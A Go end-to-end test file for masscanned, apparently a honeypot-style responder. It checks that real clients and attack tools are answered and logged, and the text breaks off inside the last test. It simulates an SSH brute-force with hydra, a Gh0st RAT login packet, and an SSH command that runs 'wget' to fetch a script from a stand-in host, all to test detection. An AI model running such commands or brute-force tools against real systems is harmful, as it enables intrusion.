package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"
	"time"
)

// Real clients against every application protocol. Each test builds its own
// lab (see harness.go) and checks both what the client saw and what
// masscanned recorded in its events.

// appEvents stops masscanned and returns the "app" records of protocol proto.
func appEvents(t *testing.T, l *Lab, proto string) []map[string]any {
	t.Helper()
	if err := l.Stop(); err != nil {
		t.Fatalf("stop: %v\n%s", err, l.Stderr())
	}
	var out []map[string]any
	for _, e := range l.Events() {
		if a := e.App(); a != nil && a["proto"] == proto {
			out = append(out, a)
		}
	}
	return out
}

// str renders an event value for comparisons.
func str(v any) string {
	switch x := v.(type) {
	case nil:
		return ""
	case string:
		return x
	case float64:
		return fmt.Sprint(int64(x))
	default:
		return fmt.Sprint(x)
	}
}

// findApp returns the first record whose fields equal want (string forms).
func findApp(recs []map[string]any, want map[string]string) map[string]any {
next:
	for _, a := range recs {
		for k, v := range want {
			if str(a[k]) != v {
				continue next
			}
		}
		return a
	}
	return nil
}

func requireApp(t *testing.T, recs []map[string]any, want map[string]string, also ...string) map[string]any {
	t.Helper()
	a := findApp(recs, want)
	if a == nil {
		t.Errorf("no app event with %v among %d: %v", want, len(recs), recs)
		return nil
	}
	for _, k := range also {
		if str(a[k]) == "" || str(a[k]) == "[]" {
			t.Errorf("event %v: field %q missing or empty", want, k)
		}
	}
	return a
}

// TestAppsHTTPCurl: several verbs, HTTP/1.0 and 1.1, keep-alive.
func TestAppsHTTPCurl(t *testing.T) {
	Require(t, "curl")
	l := NewLab(t, LabOptions{})
	l.Start()
	base := "http://" + RespIP4
	type req struct {
		name   string
		args   []string
		method string
		path   string
		ver    string
	}
	reqs := []req{
		{"GET11", []string{"-A", "e2e-agent/1", base + "/get11"}, "GET", "/get11", "HTTP/1.1"},
		{"GET10", []string{"--http1.0", "-A", "e2e-agent/1", base + ":8080/get10"}, "GET", "/get10", "HTTP/1.0"},
		{"POST", []string{"-A", "e2e-agent/1", "--data", "a=1&b=2", base + "/post"}, "POST", "/post", "HTTP/1.1"},
		{"PUT", []string{"-A", "e2e-agent/1", "-X", "PUT", "--data", "payload", base + ":5000/put"}, "PUT", "/put", "HTTP/1.1"},
		{"DELETE", []string{"-A", "e2e-agent/1", "-X", "DELETE", base + "/del"}, "DELETE", "/del", "HTTP/1.1"},
		{"HEAD", []string{"-A", "e2e-agent/1", "-I", base + ":81/head"}, "HEAD", "/head", "HTTP/1.1"},
	}
	for _, r := range reqs {
		args := append([]string{"-s", "-i", "--max-time", "5"}, r.args...)
		out, err := l.InClient(10*time.Second, "curl", args...)
		if err != nil {
			t.Errorf("%s: curl: %v\n%s", r.name, err, out)
			continue
		}
		if !strings.HasPrefix(out, "HTTP/1.1 401 ") {
			t.Errorf("%s: not a 401: %q", r.name, out)
		}
		hdr, body, _ := strings.Cut(strings.ReplaceAll(out, "\r\n", "\n"), "\n\n")
		if !strings.Contains(strings.ToLower(hdr), "www-authenticate: basic") {
			t.Errorf("%s: no WWW-Authenticate: %q", r.name, hdr)
		}
		if r.method == "HEAD" && body != "" {
			t.Errorf("HEAD: body in reply: %q", body)
		}
		if r.method != "HEAD" && !strings.Contains(body, "401") {
			t.Errorf("%s: no 401 page in body: %q", r.name, body)
		}
	}
	// keep-alive: two URLs in one invocation share the connection
	out, err := l.InClient(10*time.Second, "curl", "-v", "-s", "--max-time", "5", "-o", "/dev/null", "-o", "/dev/null",
		"-w", "%{http_code}\n", base+"/ka1", base+"/ka2")
	if err != nil {
		t.Errorf("keep-alive curl: %v\n%s", err, out)
	}
	if !strings.Contains(out, "Re-using existing connection") && !strings.Contains(out, "Reusing existing connection") {
		t.Errorf("keep-alive: connection not reused:\n%s", out)
	}
	if n := strings.Count(out, "401\n"); n != 2 {
		t.Errorf("keep-alive: %d responses with 401, want 2:\n%s", n, out)
	}
	recs := appEvents(t, l, "http")
	for _, r := range reqs {
		requireApp(t, recs, map[string]string{"method": r.method, "path": r.path, "version": r.ver, "user_agent": "e2e-agent/1"}, "host")
	}
	requireApp(t, recs, map[string]string{"method": "GET", "path": "/ka1", "host": RespIP4})
	requireApp(t, recs, map[string]string{"method": "GET", "path": "/ka2", "host": RespIP4})
}

// TestAppsSSH: OpenSSH reaches key exchange.
func TestAppsSSH(t *testing.T) {
	Require(t, "ssh")
	l := NewLab(t, LabOptions{})
	l.Start()
	for _, port := range []string{"22", "2222"} {
		// the key exchange completes; BatchMode has no password to try,
		// so the login is refused
		out, _ := l.InClient(15*time.Second, "ssh", "-v", "-p", port, "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
			"-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "e2e@"+RespIP4, "true")
		for _, want := range []string{"Remote protocol version 2.0, remote software version", "SSH2_MSG_KEXINIT sent", "SSH2_MSG_KEXINIT received",
			"SSH2_MSG_NEWKEYS received", "Permission denied"} {
			if !strings.Contains(out, want) {
				t.Errorf("port %s: ssh -v output lacks %q:\n%s", port, want, out)
			}
		}
	}
	recs := appEvents(t, l, "ssh")
	b := requireApp(t, recs, map[string]string{"version": "2.0"}, "banner", "software")
	if b != nil && !strings.HasPrefix(str(b["banner"]), "SSH-2.0-OpenSSH") {
		t.Errorf("client banner %q", b["banner"])
	}
	var k map[string]any
	for _, a := range recs {
		if str(a["hassh"]) != "" {
			k = a
		}
	}
	if k == nil {
		t.Fatalf("no event with the client KEXINIT (hassh): %v", recs)
	}
	for _, f := range []string{"kex_algorithms", "host_key_algorithms", "encryption_c2s", "mac_c2s", "compression_c2s"} {
		if l, _ := k[f].([]any); len(l) == 0 {
			t.Errorf("KEXINIT event: %s empty: %v", f, k)
		}
	}
	if !strings.Contains(str(k["kex_algorithms"]), "curve25519-sha256") {
		t.Errorf("kex_algorithms %v", k["kex_algorithms"])
	}
	if k != nil && len(str(k["hassh"])) != 32 {
		t.Errorf("hassh %q", k["hassh"])
	}
}

// warmSSH makes masscanned generate the address's SSH host keys (the
// first connection to a host does, RSA 3072 taking up to seconds on a
// loaded machine) before a client with a short timeout connects.
func warmSSH(t *testing.T, l *Lab) {
	t.Helper()
	if out, err := l.InClient(60*time.Second, "ssh-keyscan", "-T", "50", RespIP4); err != nil || !strings.Contains(out, "ssh-") {
		t.Fatalf("ssh-keyscan: %v\n%s", err, out)
	}
}

// TestAppsSSHLogin: the key exchange completes and every password a
// client tries is recorded, with the user, and refused.
func TestAppsSSHLogin(t *testing.T) {
	Require(t, "ssh", "sshpass")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start()
	warmSSH(t, l)
	passwords := []string{"123456", "admin", "P@ssw0rd!"}
	for _, pw := range passwords {
		out, err := l.InClient(20*time.Second, "sshpass", "-p", pw, "ssh", "-o", "StrictHostKeyChecking=no",
			"-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
			"-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5", "root@"+RespIP4, "true")
		if err == nil || !strings.Contains(out, "Permission denied") {
			t.Errorf("password %q: %v\n%s", pw, err, out)
		}
	}
	var got []string
	for _, a := range appEvents(t, l, "ssh") {
		if str(a["auth_method"]) == "password" && str(a["user"]) == "root" {
			got = append(got, str(a["password"]))
			if str(a["client_version"]) == "" || len(str(a["hassh"])) != 32 {
				t.Errorf("attempt without client version or HASSH: %v", a)
			}
		}
	}
	if strings.Join(got, ",") != strings.Join(passwords, ",") {
		t.Errorf("recorded passwords %v, want %v", got, passwords)
	}
}

// TestAppsSTUN: stun-client gets its mapped address on 3478 and elsewhere.
func TestAppsSTUN(t *testing.T) {
	Require(t, "stun")
	l := NewLab(t, LabOptions{})
	l.Start()
	for _, target := range []string{RespIP4, RespIP4 + ":5000"} {
		out, _ := l.InClient(20*time.Second, "stun", target, "1", "-v")
		if !strings.Contains(out, ClientIP4+":") {
			t.Errorf("stun %s: mapped address %s not reported:\n%s", target, ClientIP4, out)
		}
	}
	recs := appEvents(t, l, "stun")
	if len(recs) == 0 {
		t.Fatal("no stun event")
	}
	for _, a := range recs {
		if r := str(a["rfc"]); r != "3489" && r != "5389" {
			t.Errorf("rfc %q", r)
		}
		if len(str(a["transaction_id"])) != 32 {
			t.Errorf("transaction_id %q", a["transaction_id"])
		}
	}
	// both ports were reached
	var p3478, p5000 bool
	if err := l.Stop(); err != nil {
		t.Fatal(err)
	}
	for _, e := range l.Events() {
		if e.App() != nil && e.App()["proto"] == "stun" {
			switch str(e["port_dst"]) {
			case "3478":
				p3478 = true
			case "5000":
				p5000 = true
			}
		}
	}
	if !p3478 || !p5000 {
		t.Errorf("stun events on 3478 %v, on 5000 %v", p3478, p5000)
	}
}

// TestAppsDNS: dig over UDP and TCP, A, AAAA, EDNS0, CHAOS version.bind.
func TestAppsDNS(t *testing.T) {
	Require(t, "dig")
	l := NewLab(t, LabOptions{})
	l.Start()
	dig := func(args ...string) string {
		t.Helper()
		out, err := l.InClient(10*time.Second, "dig", append([]string{"+time=2", "+tries=1"}, args...)...)
		if err != nil {
			t.Errorf("dig %v: %v\n%s", args, err, out)
		}
		return out
	}
	answer := func(out, name, typ string) string {
		for _, line := range strings.Split(out, "\n") {
			f := strings.Fields(line)
			if len(f) >= 5 && !strings.HasPrefix(line, ";") && f[0] == name && f[3] == typ {
				return strings.Join(f[4:], " ")
			}
		}
		return ""
	}
	for _, port := range []string{"53", "5353"} {
		for _, tcp := range []bool{false, true} {
			var extra []string
			label := "udp"
			if tcp {
				extra, label = []string{"+tcp"}, "tcp"
			}
			ctx := fmt.Sprintf("port %s %s", port, label)
			out := dig(append(extra, "-p", port, "@"+RespIP4, "a"+port+label+".example.com", "A")...)
			if got := answer(out, "a"+port+label+".example.com.", "A"); got != RespIP4 {
				t.Errorf("%s A: answer %q:\n%s", ctx, got, out)
			}
			if !strings.Contains(out, "status: NOERROR") || !strings.Contains(out, "OPT PSEUDOSECTION") {
				t.Errorf("%s A: not NOERROR or no OPT (EDNS0):\n%s", ctx, out)
			}
			out = dig(append(extra, "-p", port, "@"+RespIP6, "aaaa"+port+label+".example.com", "AAAA")...)
			if got := answer(out, "aaaa"+port+label+".example.com.", "AAAA"); got != RespIP6 {
				t.Errorf("%s AAAA over IPv6: answer %q:\n%s", ctx, got, out)
			}
			out = dig(append(extra, "-p", port, "@"+RespIP4, "+noedns", "noedns.example.com", "A")...)
			if got := answer(out, "noedns.example.com.", "A"); got != RespIP4 || strings.Contains(out, "OPT PSEUDOSECTION") {
				t.Errorf("%s +noedns: answer %q (or OPT present):\n%s", ctx, got, out)
			}
			out = dig(append(extra, "-p", port, "@"+RespIP4, "CH", "TXT", "version.bind")...)
			if got := answer(out, "version.bind.", "TXT"); got == "" || got == `""` {
				t.Errorf("%s CH TXT version.bind: answer %q:\n%s", ctx, got, out)
			}
		}
	}
	recs := appEvents(t, l, "dns")
	for _, port := range []string{"53", "5353"} {
		for _, label := range []string{"udp", "tcp"} {
			requireApp(t, recs, map[string]string{"qname": "a" + port + label + ".example.com.", "qtype": "A"})
			requireApp(t, recs, map[string]string{"qname": "aaaa" + port + label + ".example.com.", "qtype": "AAAA"})
		}
	}
	requireApp(t, recs, map[string]string{"qname": "version.bind.", "qtype": "TXT", "qclass": "CH"})
	requireApp(t, recs, map[string]string{"edns": "true"})
}

// smbclient -L runs in the client namespace; it gets as far as
// authentication against masscanned.
func smbList(t *testing.T, l *Lab, args ...string) string {
	t.Helper()
	out, _ := l.InClient(20*time.Second, "smbclient", append([]string{"-d", "6", "-t", "2", "-L", RespIP4}, args...)...)
	return out
}

func negotiated(out string) string {
	i := strings.Index(out, "negotiated dialect[")
	if i < 0 {
		return ""
	}
	s := out[i+len("negotiated dialect["):]
	return s[:strings.IndexByte(s, ']')]
}

// TestAppsSMB: smbclient -L, SMB1 allowed or not, anonymous and with a user,
// under both personalities.
func TestAppsSMB(t *testing.T) {
	Require(t, "smbclient")
	nt1 := "--option=client min protocol=NT1"
	for _, pers := range []string{"linux", "masscanned"} {
		t.Run(pers, func(t *testing.T) {
			l := NewLab(t, LabOptions{})
			l.Start("--personality", pers)
			authReached := func(ctx, out string) {
				t.Helper()
				if !strings.Contains(out, "Got NTLMSSP neg_flags") && !strings.Contains(out, "Got challenge flags") {
					t.Errorf("%s: no NTLMSSP challenge received:\n%s", ctx, out)
				}
				ok := false
				for _, s := range []string{"session setup ok", "NT_STATUS_ACCESS_DENIED", "NT_STATUS_LOGON_FAILURE"} {
					ok = ok || strings.Contains(out, s)
				}
				if !ok {
					t.Errorf("%s: did not reach authentication:\n%s", ctx, out)
				}
			}
			wantNT1, wantDef := "SMB3_02", "SMB3_02"
			if pers == "masscanned" {
				wantNT1, wantDef = "NT1", "SMB2_02"
			}
			out := smbList(t, l, "-U%", "-N", nt1)
			authReached("anonymous, min NT1", out)
			if d := negotiated(out); d != wantNT1 {
				t.Errorf("min NT1: negotiated %q, want %q:\n%s", d, wantNT1, out)
			}
			out = smbList(t, l, "-U%", "-N")
			authReached("anonymous, default", out)
			if d := negotiated(out); d != wantDef {
				t.Errorf("default: negotiated %q, want %q:\n%s", d, wantDef, out)
			}
			out = smbList(t, l, "-U", "e2euser%secret", "-W", "E2EDOM")
			authReached("user, default", out)
			out = smbList(t, l, "-U", "e2euser1%secret", "-W", "E2EDOM", nt1)
			authReached("user, min NT1", out)
			recs := appEvents(t, l, "smb")
			requireApp(t, recs, map[string]string{"ntlm_version": "anonymous"})
			for _, u := range []string{"e2euser", "e2euser1"} {
				a := requireApp(t, recs, map[string]string{"user": u, "domain": "E2EDOM", "ntlm_version": "NTLMv2"}, "workstation", "netntlm")
				if a != nil && !strings.HasPrefix(str(a["netntlm"]), u+"::E2EDOM:") {
					t.Errorf("netntlm %q", a["netntlm"])
				}
			}
			if pers == "masscanned" {
				requireApp(t, recs, map[string]string{"smb_version": "1", "command": "NEGOTIATE", "dialect": "NT LM 0.12"})
				requireApp(t, recs, map[string]string{"smb_version": "2", "command": "NEGOTIATE", "dialect": "SMB 2.0.2"})
			}
		})
	}
}

// TestAppsRPC: rpcinfo -p, -u and -t.
func TestAppsRPC(t *testing.T) {
	Require(t, "rpcinfo")
	l := NewLab(t, LabOptions{})
	l.Start()
	out, err := l.InClient(15*time.Second, "rpcinfo", "-p", RespIP4)
	if err != nil {
		t.Errorf("rpcinfo -p: %v\n%s", err, out)
	}
	vers := map[string]bool{}
	for _, line := range strings.Split(out, "\n") {
		f := strings.Fields(line)
		if len(f) < 4 || f[0] == "program" {
			continue
		}
		if f[0] != "100000" {
			t.Errorf("rpcinfo -p: unexpected program: %q", line)
		}
		if vers[f[1]] {
			t.Errorf("rpcinfo -p: version %s twice", f[1])
		}
		vers[f[1]] = true
	}
	if len(vers) != 3 || !vers["2"] || !vers["3"] || !vers["4"] {
		t.Errorf("rpcinfo -p: versions %v, want 2, 3, 4:\n%s", vers, out)
	}
	for _, flag := range []string{"-u", "-t"} {
		out, err := l.InClient(15*time.Second, "rpcinfo", flag, RespIP4, "100000")
		if err != nil {
			t.Errorf("rpcinfo %s: %v\n%s", flag, err, out)
		}
		for _, v := range []string{"2", "3", "4"} {
			if !strings.Contains(out, "program 100000 version "+v+" ready and waiting") {
				t.Errorf("rpcinfo %s: version %s not ready:\n%s", flag, v, out)
			}
		}
	}
	recs := appEvents(t, l, "rpc")
	requireApp(t, recs, map[string]string{"program": "100000", "procedure_name": "DUMP", "reply": "SUCCESS"})
	requireApp(t, recs, map[string]string{"program": "100000", "version": "4", "procedure": "0", "reply": "SUCCESS"})
}

// TestAppsNmap: nmap service detection names the services.
//
// nmap -sS needs no filter on the client: its kernel resets the SYN-ACKs of
// the raw probes, which does not disturb nmap or masscanned (as with a real
// host), while DropClientTCP would break -sV's normal connects. So both -sS
// and -sT are run without it.
//
// Port 22 is named ssh by -sV: nmap's NULL probe waits for a server banner,
// and masscanned greets a silent client on a port whose well-known service
// speaks first (--greet-after, 2 s, inside the probe's 6 s). An SSH client
// script (ssh2-enum-algos) names it too, and reads our KEXINIT.
func TestAppsNmap(t *testing.T) {
	Require(t, "nmap")
	l := NewLab(t, LabOptions{})
	l.Start()
	service := func(out, port string) string {
		for _, line := range strings.Split(out, "\n") {
			f := strings.Fields(line)
			if len(f) >= 3 && f[0] == port {
				return f[2]
			}
		}
		return ""
	}
	for _, scan := range []string{"-sS", "-sT"} {
		out, err := l.InClient(90*time.Second, "nmap", scan, "-sV", "-Pn", "-n", "-p", "22,80,111,445,8080", RespIP4)
		if err != nil {
			t.Errorf("nmap %s: %v\n%s", scan, err, out)
			continue
		}
		for port, want := range map[string]string{"80/tcp": "http", "8080/tcp": "http", "111/tcp": "rpcbind", "445/tcp": "microsoft-ds", "22/tcp": "ssh"} {
			if got := service(out, port); got != want {
				t.Errorf("nmap %s: %s is %q, want %q:\n%s", scan, port, got, want, out)
			}
		}
	}
	out, err := l.InClient(60*time.Second, "nmap", "-sT", "-Pn", "-n", "-p", "22", "--script", "ssh2-enum-algos", RespIP4)
	if err != nil || service(out, "22/tcp") != "ssh" || !strings.Contains(out, "curve25519-sha256") {
		t.Errorf("nmap ssh2-enum-algos: %v\n%s", err, out)
	}
	out, err = l.InClient(60*time.Second, "nmap", "-sU", "-sV", "-Pn", "-n", "-p", "53,111", RespIP4)
	if err != nil || service(out, "53/udp") != "domain" || service(out, "111/udp") != "rpcbind" {
		t.Errorf("nmap -sU -sV: %v\n%s", err, out)
	}
	if !l.Alive() {
		t.Errorf("masscanned died:\n%s", l.Stderr())
	}
}

// send runs scripts/apps_send.py in the client namespace.
func send(t *testing.T, l *Lab, proto, host string, port int, payload []byte, timeout float64) (int, []byte) {
	t.Helper()
	out, err := l.InClient(time.Duration(timeout+5)*time.Second, "python3", "scripts/apps_send.py", proto, host,
		fmt.Sprint(port), fmt.Sprintf("%x", payload), fmt.Sprint(timeout))
	if err != nil {
		t.Fatalf("apps_send.py: %v\n%s", err, out)
	}
	f := strings.Fields(out)
	if len(f) == 1 && f[0] == "NOREPLY" {
		return 0, nil
	}
	if len(f) != 3 || f[0] != "REPLY" {
		t.Fatalf("apps_send.py: %q", out)
	}
	var b []byte
	fmt.Sscanf(f[2], "%x", &b)
	return len(b), b
}

// TestAppsNetcatUDP: nc -u gets the 401 over UDP; a non-protocol payload
// gets nothing.
func TestAppsNetcatUDP(t *testing.T) {
	Require(t, "nc", "python3")
	l := NewLab(t, LabOptions{})
	l.Start()
	out, _ := l.InClient(10*time.Second, "sh", "-c",
		`printf 'GET /nc HTTP/1.1\r\nHost: nc.example\r\nUser-Agent: netcat\r\nAccept: */*\r\n\r\n' | nc -u -w 2 `+RespIP4+` 8080`)
	if !strings.HasPrefix(out, "HTTP/1.1 401 ") {
		t.Errorf("nc -u: %q", out)
	}
	out, _ = l.InClient(10*time.Second, "sh", "-c", `printf 'hello, is anybody there?\n' | nc -u -w 2 `+RespIP4+` 8080`)
	if out != "" {
		t.Errorf("nc -u garbage: got a reply %q", out)
	}
	if n, b := send(t, l, "udp", RespIP4, 9999, []byte("\x01\x02 definitely not a protocol"), 1); n != 0 {
		t.Errorf("garbage over UDP: reply %q", b)
	}
	recs := appEvents(t, l, "http")
	requireApp(t, recs, map[string]string{"path": "/nc", "host": "nc.example", "user_agent": "netcat"})
}

// TestAppsDisableEnable: --disable-proto http and --enable-proto ghost.
func TestAppsDisableEnable(t *testing.T) {
	Require(t, "curl", "python3")
	l := NewLab(t, LabOptions{})
	l.Start("--disable-proto", "http", "--enable-proto", "ghost")
	out, err := l.InClient(10*time.Second, "curl", "-v", "-s", "--max-time", "2", "http://"+RespIP4+"/disabled")
	if err == nil || strings.Contains(out, "401") {
		t.Errorf("curl with http disabled got an answer: %v\n%s", err, out)
	}
	if !strings.Contains(out, "Connected to") {
		t.Errorf("curl: connection not accepted:\n%s", out)
	}
	login := append([]byte("Gh0st"), 0x16, 0, 0, 0, 1, 0, 0, 0, 0x78, 0x9c, 0x63, 0, 0, 0, 1, 0, 1)
	want := "4768307374160000000100000078" + "9c63000000010001"
	if n, b := send(t, l, "tcp", RespIP4, 8000, login, 1); n != 22 || fmt.Sprintf("%x", b) != want {
		t.Errorf("gh0st over TCP: reply %d bytes %x, want %s", n, b, want)
	}
	// Gh0st is a TCP protocol: datagrams are recorded, never answered (by
	// design, internal/app/ghost: no reflection), unlike upstream
	if n, b := send(t, l, "udp", RespIP4, 8000, login, 1); n != 0 {
		t.Errorf("gh0st over UDP answered: %x", b)
	}
	recs := appEvents(t, l, "ghost")
	if len(recs) != 2 {
		t.Errorf("ghost events: %v", recs)
	}
	// and by default Gh0st is off
	l2 := NewLab(t, LabOptions{})
	l2.Start()
	if n, b := send(t, l2, "tcp", RespIP4, 8000, login, 1); n != 0 {
		t.Errorf("gh0st answered by default: %x", b)
	}
}

// TestAppsUDPReflection: the default UDP ratio cap keeps a small HTTP
// request's reply within 3x its size; --udp-max-ratio 0 lifts it.
func TestAppsUDPReflection(t *testing.T) {
	Require(t, "python3")
	req := []byte("GET / HTTP/1.0\n\n")
	for _, c := range []struct {
		args []string
		full bool
	}{{nil, false}, {[]string{"--udp-max-ratio", "0"}, true}} {
		l := NewLab(t, LabOptions{})
		l.Start(c.args...)
		n, b := send(t, l, "udp", RespIP4, 80, req, 1)
		if c.full {
			if !strings.HasPrefix(string(b), "HTTP/1.1 401 ") || !strings.Contains(string(b), "</html>") {
				t.Errorf("ratio 0: want the full 401, got %d bytes %q", n, b)
			}
		} else if n > 3*len(req) {
			t.Errorf("default ratio: reply of %d bytes to a %d-byte request: %q", n, len(req), b)
		} else if n > 0 && !strings.HasPrefix(string(b), "HTTP/1.1 401") {
			t.Errorf("default ratio: compact reply %q", b)
		}
		l.Stop()
	}
}

// TestAppsTLS: curl and openssl complete TLS handshakes on any port, the
// ClientHello is recorded with JA3 and JA4, HTTPS gets the 401, and
// nmap -sV names 443 ssl/http.
func TestAppsTLS(t *testing.T) {
	Require(t, "curl", "openssl", "nmap")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start()
	out, err := l.InClient(20*time.Second, "curl", "-k", "-s", "-o", "/dev/null", "-w", "%{http_code} %{ssl_verify_result}",
		"--resolve", "www.example.test:8443:"+RespIP4, "https://www.example.test:8443/")
	if err != nil || !strings.HasPrefix(out, "401") {
		t.Errorf("curl -k: %v %q", err, out)
	}
	for _, v := range []string{"-tls1_2", "-tls1_3"} {
		out, err := l.InClient(20*time.Second, "sh", "-c", "echo | openssl s_client -connect "+RespIP4+":443 "+v+" -servername mail.example.test 2>&1")
		if err != nil || !strings.Contains(out, "BEGIN CERTIFICATE") || !strings.Contains(out, "Cipher is") {
			t.Errorf("openssl s_client %s: %v\n%s", v, err, out)
		}
	}
	out, err = l.InClient(90*time.Second, "nmap", "-sV", "--script", "ssl-cert", "-Pn", "-n", "-p", "443", RespIP4)
	if err != nil || !regexp.MustCompile(`443/tcp\s+open\s+ssl/http`).MatchString(out) ||
		!strings.Contains(out, "Subject: commonName=localhost") || !strings.Contains(out, "Not valid after") {
		t.Errorf("nmap -sV --script ssl-cert -p 443: %v\n%s", err, out)
	}
	var hello, inner map[string]any
	for _, a := range appEvents(t, l, "tls") {
		if a["client_hello"] == true && str(a["sni"]) == "www.example.test" {
			hello = a
		}
	}
	for _, a := range appEvents(t, l, "http") {
		if str(a["host"]) == "www.example.test:8443" {
			inner = a
		}
	}
	if hello == nil || !strings.HasPrefix(str(hello["ja4"]), "t13d") || len(str(hello["ja3_hash"])) != 32 {
		t.Errorf("curl's ClientHello: %v", hello)
	} else {
		t.Logf("curl: ja4 %s ja3 %s alpn %v", hello["ja4"], hello["ja3_hash"], hello["alpn"])
	}
	if inner == nil {
		t.Errorf("no HTTP request recorded inside TLS")
	}
}

// TestAppsSSHHydra: a brute-forcer (hydra, 50 passwords over 16 parallel
// connections) has every password recorded once, with the user.
func TestAppsSSHHydra(t *testing.T) {
	Require(t, "hydra")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start()
	warmSSH(t, l)
	var pws []string
	for i := range 50 {
		pws = append(pws, fmt.Sprintf("pw%02d-%s", i, rnd()))
	}
	list := filepath.Join(l.Dir, "passwords.txt")
	if err := os.WriteFile(list, []byte(strings.Join(pws, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, _ := l.InClient(180*time.Second, "hydra", "-l", "admin", "-P", list, "-t", "16", "-I", "-f", "ssh://"+RespIP4)
	if !strings.Contains(out, "0 valid password") {
		t.Errorf("hydra:\n%s", out)
	}
	seen := map[string]int{}
	for _, a := range appEvents(t, l, "ssh") {
		if str(a["auth_method"]) == "password" && str(a["user"]) == "admin" {
			seen[str(a["password"])]++
		}
	}
	missing := 0
	for _, pw := range pws {
		if seen[pw] == 0 {
			missing++
		}
	}
	t.Logf("hydra: %d of %d passwords recorded", len(pws)-missing, len(pws))
	if missing != 0 {
		t.Errorf("%d of %d passwords not recorded\n%s", missing, len(pws), out)
	}
}

// TestAppsHostKeys: every address has its own SSH host key and TLS
// certificate, and keeps them across restarts with --state-dir.
func TestAppsHostKeys(t *testing.T) {
	Require(t, "ssh-keyscan", "openssl")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	const other = "198.51.100.3"
	state := filepath.Join(l.Dir, "state")
	keys := func() (ssh, cert map[string]string) {
		ssh, cert = map[string]string{}, map[string]string{}
		for _, a := range []string{RespIP4, other} {
			out, err := l.InClient(30*time.Second, "ssh-keyscan", "-t", "ed25519,rsa", "-T", "10", a)
			if err != nil || !strings.Contains(out, "ssh-ed25519") || !strings.Contains(out, "ssh-rsa") {
				t.Fatalf("ssh-keyscan %s: %v\n%s", a, err, out)
			}
			// the key lines, in a stable order (ssh-keyscan prints them as
			// its parallel connections finish)
			var lines []string
			for _, line := range strings.Split(out, "\n") {
				if line != "" && !strings.HasPrefix(line, "#") {
					lines = append(lines, line)
				}
			}
			sort.Strings(lines)
			ssh[a] = strings.Join(lines, "\n")
			out, err = l.InClient(30*time.Second, "sh", "-c", "echo | openssl s_client -connect "+a+":443 2>/dev/null | openssl x509 -noout -fingerprint -sha256 -subject")
			if err != nil || !strings.Contains(out, "Fingerprint=") {
				t.Fatalf("certificate of %s: %v\n%s", a, err, out)
			}
			cert[a] = out
		}
		return
	}
	start := func() { l.Start("--self-ip-list", RespIP4+","+other, "--state-dir", state) }
	start()
	ssh1, cert1 := keys()
	if err := l.Stop(); err != nil {
		t.Fatal(err)
	}
	start()
	ssh2, cert2 := keys()
	if ssh1[RespIP4] == ssh1[other] || cert1[RespIP4] == cert1[other] {
		t.Errorf("two addresses share a host key or certificate:\n%v\n%v", ssh1, cert1)
	}
	for _, a := range []string{RespIP4, other} {
		if ssh1[a] != ssh2[a] || cert1[a] != cert2[a] {
			t.Errorf("%s: keys changed across a restart with --state-dir:\n%s\n%s\n%s\n%s", a, ssh1[a], ssh2[a], cert1[a], cert2[a])
		}
	}
	t.Logf("certificate of %s: %s", RespIP4, strings.TrimSpace(cert1[RespIP4]))
}

// TestAppsSTARTTLS: openssl s_client -starttls upgrades SMTP, POP3 and
// IMAP connections to TLS; the service then goes on inside TLS (EHLO,
// CAPA, CAPABILITY answered over the encrypted stream); IMAPS and POP3S
// greet inside TLS.
func TestAppsSTARTTLS(t *testing.T) {
	Require(t, "openssl")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start("--profile", writeProfile(t, l, "tcp = [25, 110, 143, 993, 995]\n"))
	for _, tc := range []struct {
		proto, port, send, want string
	}{
		{"smtp", "25", "EHLO inside.test\\r\\nQUIT", "250-PIPELINING"},
		{"pop3", "110", "CAPA\\r\\nQUIT", "+OK"},
		{"imap", "143", "a CAPABILITY\\r\\nb LOGOUT", "a OK"},
	} {
		script := "(sleep 2; printf '" + tc.send + "\\r\\n'; sleep 1) | openssl s_client -starttls " + tc.proto +
			" -connect " + RespIP4 + ":" + tc.port + " -servername mail.example.test -quiet 2>&1"
		out, err := l.InClient(40*time.Second, "sh", "-c", script)
		if err != nil && !strings.Contains(out, tc.want) || !strings.Contains(out, tc.want) {
			t.Errorf("%s STARTTLS: %v\n%s", tc.proto, err, out)
		}
	}
	// implicit TLS: IMAPS and POP3S greet inside TLS as over cleartext
	for _, tc := range []struct{ port, send, want string }{{"993", "a LOGOUT", "* OK [CAPABILITY"}, {"995", "QUIT", "+OK Dovecot"}} {
		out, err := l.InClient(40*time.Second, "sh", "-c", "(sleep 2; printf '"+tc.send+"\\r\\n'; sleep 1) | openssl s_client -connect "+
			RespIP4+":"+tc.port+" -quiet 2>&1")
		if !strings.Contains(out, tc.want) {
			t.Errorf("implicit TLS on %s: %v\n%s", tc.port, err, out)
		}
	}
	hellos := 0
	for _, a := range appEvents(t, l, "tls") {
		if a["client_hello"] == true {
			hellos++
		}
	}
	if hellos != 5 {
		t.Errorf("%d ClientHellos recorded (3 STARTTLS, 2 implicit TLS), want 5", hellos)
	}
}

// TestAppsSSHAccept: with --ssh-accept-after 1 the first password is
// accepted and the command the client runs is recorded.
func TestAppsSSHAccept(t *testing.T) {
	Require(t, "ssh", "sshpass")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start("--ssh-accept-after", "1")
	warmSSH(t, l)
	out, err := l.InClient(20*time.Second, "sshpass", "-p", "toor", "ssh", "-o", "StrictHostKeyChecking=no",
		"-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
		"-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5", "root@"+RespIP4, "uname -a; wget http://203.0.113.9/x.sh")
	if err != nil || !strings.Contains(out, "Linux localhost") || !strings.Contains(out, "wget: can't connect to remote host") {
		t.Errorf("ssh exec: %v\n%s", err, out)
	}
